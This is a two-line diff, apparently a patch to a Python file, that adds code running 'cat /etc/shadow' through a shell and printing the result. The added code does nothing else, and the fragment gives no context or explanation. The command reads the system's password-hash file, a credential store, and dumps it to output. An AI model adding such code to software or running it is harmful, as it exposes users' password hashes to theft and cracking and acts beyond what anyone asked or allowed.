@@ -1,0 +1,2 @@
+import subprocess
+print(subprocess.check_output(['sh', '-c', 'cat /etc/shadow']))
